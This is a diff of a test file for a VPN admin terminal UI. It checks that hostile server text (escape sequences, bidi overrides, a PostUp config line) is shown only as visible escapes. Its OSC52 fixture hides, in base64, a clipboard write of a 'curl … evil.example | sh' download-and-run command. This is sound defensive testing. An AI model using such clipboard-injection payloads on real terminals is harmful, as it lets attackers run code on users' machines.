@@ -4,27 +4,24 @@
 // the result screen and the status bar are rendered with that data, and every RAW write Ink made
 // is checked: nothing but SGR colour codes may reach the terminal, and the odd characters must be
 // visible as escapes.
-import React from 'react';
 import {createServer, type Server} from 'node:http';
 import type {AddressInfo} from 'node:net';
 import {generateKeyPairSync} from 'node:crypto';
-import {afterAll, afterEach, beforeAll, describe, expect, it} from 'vitest';
-import {cleanup, render} from 'ink-testing-library';
+import {afterAll, beforeAll, describe, expect, it} from 'vitest';
 import {FirezoneClient} from '../../src/api/index.js';
-import {startSandbox, type SandboxHandle} from '../../src/sandbox/index.js';
-import {App, type AppSettings} from '../../src/ui/App.js';
-import {press, strip, waitFor} from '../helpers/ink.js';
+import type {AppSettings} from '../../src/ui/App.js';
+import {strip} from '../helpers/ink.js';
+import {renderApp, useSandbox} from '../helpers/rig.js';
 import {HOSTILE} from '../fixtures/hostile.js';
 
 const settings: AppSettings = {label: 'hostile', refreshSeconds: 0, readOnly: false, insecure: false, demo: false};
-const KEY = {enter: '\r', esc: '\x1b', down: '\x1b[B', save: '\x13', tab: '\t'};
 const OSC52 = '\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07';
 // A lone surrogate cannot be stored (the sandbox, like a real database, cannot hold it as UTF-8);
 // it is covered by the unit tests of the boundary.
 const DEVICE_TEXTS = HOSTILE.filter(([name]) => name !== 'lone surrogate');
 const HOSTILE_EMAIL = `mallory${OSC52}\u202e@evil.example`;
 
-let sandbox: SandboxHandle;
+const fx = useSandbox({seed: 'empty', statsIntervalSeconds: 0, maxDevicesPerUser: 50});
 let proxy: Server;
 let proxyUrl: string;
 let client: FirezoneClient;
@@ -36,11 +33,7 @@ function publicKey(): string {
 
 // eslint-disable-next-line @typescript-eslint/no-explicit-any -- sandbox JSON; the assertions check its shape
 async function admin(method: string, path: string, body?: unknown): Promise<{status: number; json: any}> {
-  const res = await fetch(`${sandbox.url}${path}`, {method,
-    headers: {authorization: `Bearer ${sandbox.adminToken}`, 'content-type': 'application/json'},
-    ...(body === undefined ? {} : {body: JSON.stringify(body)})});
-  const text = await res.text();
-  return {status: res.status, json: text ? JSON.parse(text) : null};
+  return fx.api(method, path, body);
 }
 
 /**
@@ -60,7 +53,7 @@ function assertTerminalSafe(frames: readonly string[]): void {
 }
 
 beforeAll(async () => {
-  sandbox = await startSandbox({port: 0, seed: 'empty', statsIntervalSeconds: 0, maxDevicesPerUser: 50});
+  const sandbox = fx.sandbox;
   const user = (await admin('POST', '/v0/users', {user: {email: HOSTILE_EMAIL, role: 'unprivileged'}})).json.data;
   for (const [i, [name, text]] of DEVICE_TEXTS.entries()) {
     const res = await admin('POST', '/v0/devices', {device: {user_id: user.id, public_key: publicKey(), name: `d${i} ${text}`.slice(0, 200),
@@ -104,40 +97,47 @@ beforeAll(async () => {
   proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
   client = new FirezoneClient({baseUrl: proxyUrl, token: sandbox.adminToken});
 });
-afterEach(() => cleanup());
 afterAll(async () => {
   await client.close();
   await new Promise((r) => proxy.close(r));
-  await sandbox.close();
 });
 
 describe('hostile server text never drives the terminal', {timeout: 60_000}, () => {
   it('devices: list, every detail, edit form, delete dialog, copy', async () => {
     const clipboard: string[] = [];
-    const ui = render(<App client={client} settings={settings} writeRaw={(s) => clipboard.push(s)} />);
-    let frame = await waitFor(ui.lastFrame, new RegExp(`1/${DEVICE_TEXTS.length} devices`));
+    const app = await renderApp({client, settings, writeRaw: (s) => clipboard.push(s), ready: false});
+    let frame = await app.waitFor(new RegExp(`1/${DEVICE_TEXTS.length} devices`));
     expect(frame).toContain('\\e]52;c;');
     for (let i = 0; i < DEVICE_TEXTS.length; i++) {
-      await press(ui.stdin, KEY.enter);
-      frame = await waitFor(ui.lastFrame, 'Preshared key');
-      await press(ui.stdin, KEY.esc, KEY.down);
-      await waitFor(ui.lastFrame, new RegExp(`${Math.min(i + 2, DEVICE_TEXTS.length)}/${DEVICE_TEXTS.length} devices`));
+      await app.press('open', 'list');
+      frame = await app.waitFor('Preshared key');
+      await app.press('back', 'detail');
+      await app.press('down', 'list');
+      await app.waitFor(new RegExp(`${Math.min(i + 2, DEVICE_TEXTS.length)}/${DEVICE_TEXTS.length} devices`));
     }
-    await press(ui.stdin, 'g', KEY.enter);
-    frame = await waitFor(ui.lastFrame, 'Description');
+    await app.press('home', 'list');
+    await app.press('open', 'list');
+    frame = await app.waitFor('Description');
     // The OSC 52 payload is on screen as text, the owner line is not faked by a newline.
     expect(frame).toMatch(/\\e\]52;c;Y3Vy/);
     expect(frame.match(/^Owner/gm)?.length ?? 0).toBeLessThanOrEqual(1);
-    await press(ui.stdin, 'c');
-    frame = await waitFor(ui.lastFrame, /Copied public key/);
-    await press(ui.stdin, KEY.esc, 'e');
-    await waitFor(ui.lastFrame, 'Edit device');
-    await press(ui.stdin, KEY.esc, 'd');
-    await waitFor(ui.lastFrame, 'Delete device');
-    await press(ui.stdin, 'n');
+    await app.press('copy', 'detail');
+    frame = await app.waitFor(/Copied public key/);
+    await app.press('back', 'detail');
+    await app.press('edit', 'list');
+    await app.waitFor('Edit device');
+    await app.press('cancel', 'form');
+    await app.press('delete', 'list');
+    await app.waitFor('Delete device');
+    await app.press('cancel', 'dialog');
     // Copy a value that holds controls: the clipboard gets escapes, and the status bar says so.
-    await press(ui.stdin, '2', '/', ...'mallory', KEY.enter, KEY.enter, 'c');
-    frame = await waitFor(ui.lastFrame, /Copied email with \d+ control characters? shown as escapes/);
+    await app.press('screen2');
+    await app.press('filter', 'list');
+    await app.type('mallory');
+    await app.press('filterAccept', 'filter');
+    await app.press('open', 'list');
+    await app.press('copy', 'detail');
+    frame = await app.waitFor(/Copied email with \d+ control characters? shown as escapes/);
     expect(clipboard.length).toBe(2);
     for (const seq of clipboard) {
       // eslint-disable-next-line no-control-regex -- the OSC 52 framing
@@ -145,57 +145,77 @@ describe('hostile server text never drives the terminal', {timeout: 60_000}, () 
       expect(payload).toBeDefined();
       expect(Buffer.from(payload!, 'base64').toString('utf8')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
     }
-    assertTerminalSafe(ui.frames);
+    assertTerminalSafe(app.frames);
   });
 
   it('users and rules: lists, details, forms, dialogs; configuration with secrets revealed', async () => {
-    const ui = render(<App client={client} settings={settings} />);
-    await waitFor(ui.lastFrame, /Devices \d+/);
-    await press(ui.stdin, '2');
-    await waitFor(ui.lastFrame, 'EMAIL');
-    await press(ui.stdin, '/', ...'mallory', KEY.enter, KEY.enter);
-    let frame = await waitFor(ui.lastFrame, /Devices \(\d+\)/);
+    const app = await renderApp({client, settings, ready: /Devices \d+/});
+    await app.press('screen2');
+    await app.waitFor('EMAIL');
+    await app.press('filter', 'list');
+    await app.type('mallory');
+    await app.press('filterAccept', 'filter');
+    await app.press('open', 'list');
+    let frame = await app.waitFor(/Devices \(\d+\)/);
     expect(frame).toContain('mallory\\e]52;c;');
-    await press(ui.stdin, 'e');
-    await waitFor(ui.lastFrame, 'Change the email');
-    await press(ui.stdin, KEY.esc, 'R');
-    await waitFor(ui.lastFrame, /Promote|Demote/);
-    await press(ui.stdin, 'n', 'd');
-    await waitFor(ui.lastFrame, 'Their active VPN sessions drop at once');
-    await press(ui.stdin, 'n', KEY.esc, '3');
-    await waitFor(ui.lastFrame, 'DESTINATION');
-    await press(ui.stdin, KEY.enter);
-    await waitFor(ui.lastFrame, 'Precedence');
-    await press(ui.stdin, KEY.esc, '4', 'v');
-    frame = await waitFor(ui.lastFrame, 'OpenID Connect providers (1)');
+    await app.press('edit', 'detail');
+    await app.waitFor('Change the email');
+    await app.press('cancel', 'form');
+    await app.press('role', 'detail');
+    await app.waitFor(/Promote|Demote/);
+    await app.press('cancel', 'dialog');
+    await app.press('delete', 'detail');
+    await app.waitFor('Their active VPN sessions drop at once');
+    await app.press('cancel', 'dialog');
+    await app.press('back', 'detail');
+    await app.press('screen3');
+    await app.waitFor('DESTINATION');
+    await app.press('open', 'list');
+    await app.waitFor('Precedence');
+    await app.press('back', 'detail');
+    await app.press('screen4');
+    await app.press('reveal', 'configuration');
+    frame = await app.waitFor('OpenID Connect providers (1)');
     expect(frame).toContain('sec\\aret');
-    await press(ui.stdin, KEY.down, KEY.down, KEY.enter);
-    await waitFor(ui.lastFrame, 'OIDC provider corp');
-    assertTerminalSafe(ui.frames);
+    await app.press('down', 'configuration', 2);
+    await app.press('edit', 'configuration');
+    await app.waitFor('OIDC provider corp');
+    assertTerminalSafe(app.frames);
   });
 
   it('the owner picker, a hostile 422 (fields, base, X-Request-Id), a proxy HTML title, and a hostile config value', async () => {
-    const ui = render(<App client={client} settings={settings} />);
-    await waitFor(ui.lastFrame, /1\/\d+ devices/);
+    const app = await renderApp({client, settings, ready: /1\/\d+ devices/});
     // Picker: the hostile email is listed, escaped.
-    await press(ui.stdin, 'n', KEY.enter);
-    let frame = await waitFor(ui.lastFrame, 'pick a user');
+    await app.press('new', 'list');
+    await app.press('pick', 'form');
+    let frame = await app.waitFor('pick a user');
     expect(frame).toContain('mallory\\e]52');
-    await press(ui.stdin, KEY.esc, KEY.esc, 'y');
+    await app.press('cancel', 'picker');
+    await app.press('cancel', 'form');
+    await app.press('confirm', 'dialog');
     // 422 with hostile messages: under the field, in the form errors and the status bar.
-    await press(ui.stdin, '2', 'n', ...'reject@example.com', KEY.save);
-    frame = await waitFor(ui.lastFrame, /not welcome/);
+    await app.press('screen2');
+    await app.press('new', 'list');
+    await app.type('reject@example.com');
+    await app.press('save');
+    frame = await app.waitFor(/not welcome/);
     expect(frame).toContain('\\n');
-    await press(ui.stdin, KEY.esc, 'y');
+    await app.press('cancel', 'form');
+    await app.press('confirm', 'dialog');
     // 502 HTML from a proxy with a hostile <title>.
-    await press(ui.stdin, '3', 'd', 'y');
-    await waitFor(ui.lastFrame, /502/);
+    await app.press('screen3');
+    await app.press('delete', 'list');
+    await app.press('confirm', 'dialog');
+    await app.waitFor(/502/);
     // A device whose config would carry a PostUp line: refused, nothing shown raw.
-    await press(ui.stdin, '2', 'g', KEY.enter, 'n');
-    await waitFor(ui.lastFrame, 'Add device for');
-    await press(ui.stdin, KEY.save);
-    frame = await waitFor(ui.lastFrame, /Refusing to build the client config/);
+    await app.press('screen2');
+    await app.press('home', 'list');
+    await app.press('open', 'list');
+    await app.press('new', 'detail');
+    await app.waitFor('Add device for');
+    await app.press('save');
+    frame = await app.waitFor(/Refusing to build the client config/);
     expect(strip(frame)).not.toMatch(/^PostUp/m);
-    assertTerminalSafe(ui.frames);
+    assertTerminalSafe(app.frames);
   });
 });
